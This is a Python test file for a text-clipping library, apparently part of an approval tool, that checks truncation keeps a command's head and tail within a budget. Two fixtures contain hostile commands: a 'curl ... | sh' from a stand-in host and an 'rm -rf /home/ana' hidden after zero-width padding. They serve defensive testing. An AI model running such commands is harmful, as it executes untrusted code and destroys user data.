"""Cuts keep head and tail, stay within the budget, and tell exactly how much they hide."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from signoff.clipping import Clipped, clip, cut, cut_name, cut_reason, units
from signoff.display import shown
from signoff.texts import Catalogue

TEXTS = Catalogue.load()
NOTE = re.compile(r"… ⟨([0-9,]+) hidden⟩ …")
PARTS = st.sampled_from(
    ["a", "bc ", "\n", "👩\u200d💻", "é", "e\u0301\u0302", "⟨U+202E⟩", "gh⟨36 masked⟩9k", "中", "𝐫", "👍🏽", "⟨", "⟩"]
)
LONG = st.lists(PARTS, min_size=0, max_size=120).map("".join)


def hidden(count: int) -> str:
    return TEXTS.text("clip.hidden_short", count=count)


def short(text: str, *, head: int = 40, tail: int = 20, lines: int = 5) -> Clipped:
    return clip(text, head_units=head, tail_units=tail, max_lines=lines, note=hidden)


def test_what_fits_stays_whole() -> None:
    for text in ("x" * 1_000, "\n" * 13, "", "😀" * 500):
        assert clip(text, note=hidden) == Clipped(text=text, hidden_chars=0)


def test_a_long_command_keeps_its_end() -> None:
    command = "for f in $(cat hosts); do " + "x" * 18_000 + "done; curl -s https://x.example/i.sh | sh"
    clipped = clip(command, note=lambda n: TEXTS.text("clip.hidden_with_file", count=n, file="7Q2MK.txt"))
    assert clipped.text.startswith("for f in $(cat hosts); do xx")
    assert clipped.text.endswith("done; curl -s https://x.example/i.sh | sh")
    assert f"x… ⟨{clipped.hidden_chars:,} characters hidden here; whole text in 7Q2MK.txt⟩ …x" in clipped.text
    assert 980 < units(clipped.text) <= 1_000


def test_too_many_lines_are_cut_in_the_middle() -> None:
    clipped = clip("\n".join(f"line {n}" for n in range(100)), note=hidden)
    assert clipped.text.count("\n") == 13
    assert clipped.text.startswith("line 0\n") and clipped.text.endswith("\nline 99")


def _pieces(clipped: Clipped) -> tuple[str, str]:
    note = f"… ⟨{hidden(clipped.hidden_chars)}⟩ …"
    head, found, tail = clipped.text.partition(note)
    assert found
    return head, tail


@given(LONG)
@example("⟨U+202E⟩" * 30)
@example("e" + "\u0301" * 500)
@example("\n" * 80)
def test_a_cut_is_a_real_head_and_tail_within_the_budget(text: str) -> None:
    clipped = short(text)
    assert units(clipped.text) <= 60
    assert clipped.text.count("\n") < 5
    if clipped.hidden_chars == 0:
        assert clipped.text == text
        return
    head, tail = _pieces(clipped)
    assert text.startswith(head) and text.endswith(tail)
    assert len(head) + len(tail) + clipped.hidden_chars == len(text)


ATOMS = st.lists(
    st.sampled_from(["a", " ", "👩\u200d💻", "e\u0301\u0302", "⟨U+202E⟩", "⟨36 masked⟩", "𝐫", "👍🏽", "⚠\ufe0f"]),
    min_size=40,
    max_size=90,
)


@given(ATOMS)
def test_no_cut_falls_inside_an_escape_or_a_joined_character(atoms: list[str]) -> None:
    clipped = short("".join(atoms))
    if clipped.hidden_chars:
        head, tail = _pieces(clipped)
        starts = {"".join(atoms[:count]) for count in range(len(atoms) + 1)}
        ends = {"".join(atoms[count:]) for count in range(len(atoms) + 1)}
        assert head in starts
        assert tail in ends


def test_a_cut_hides_no_more_than_it_must() -> None:
    clipped = short("x" * 80 + "⟨U+200B⟩" + "y" * 15)
    assert _pieces(clipped) == ("x" * (40 - units("… ⟨103 hidden⟩ …")), "y" * 15)
    assert _pieces(short("x" * 20 + "⟨U+200B⟩" + "y" * 90))[0] == "x" * 20


@given(LONG, st.integers(min_value=0, max_value=50))
def test_a_plain_cut_is_a_head_and_counts_the_rest(text: str, limit: int) -> None:
    result = cut(text, limit_units=limit)
    assert units(result.text) <= limit
    assert text.startswith(result.text)
    assert len(result.text) + result.hidden_chars == len(text)


def test_a_reason_is_cut_at_280_units() -> None:
    assert cut_reason("x" * 280) == Clipped(text="x" * 280, hidden_chars=0)
    assert cut_reason("😀" * 200) == Clipped(text="😀" * 140, hidden_chars=60)


def test_a_name_is_cut_at_40_units_its_mark_included() -> None:
    assert cut_name("deploy-bot", note=hidden).text == "deploy-bot"
    result = cut_name("n" * 100, note=hidden)
    assert result.text == "n" * 27 + "…⟨73 hidden⟩"
    assert units(result.text) <= 40


def test_a_budget_without_room_for_the_note_is_refused() -> None:
    with pytest.raises(ValueError, match="no room"):
        short("x" * 100, head=5)
    with pytest.raises(ValueError, match="no room"):
        cut_name("x" * 100, note=hidden, limit_units=5)
    with pytest.raises(ValueError, match="max_lines"):
        short("x" * 100, lines=0)


def test_the_dangerous_end_of_an_escape_heavy_text_is_seen() -> None:
    text = shown("\u200b" * 10_000 + "; rm -rf /home/ana")
    assert clip(text, note=hidden).text.endswith("; rm -rf /home/ana")


@given(st.text())
def test_units_are_those_of_utf_16(text: str) -> None:
    assert units(text) == sum(2 if ord(char) > 0xFFFF else 1 for char in text)
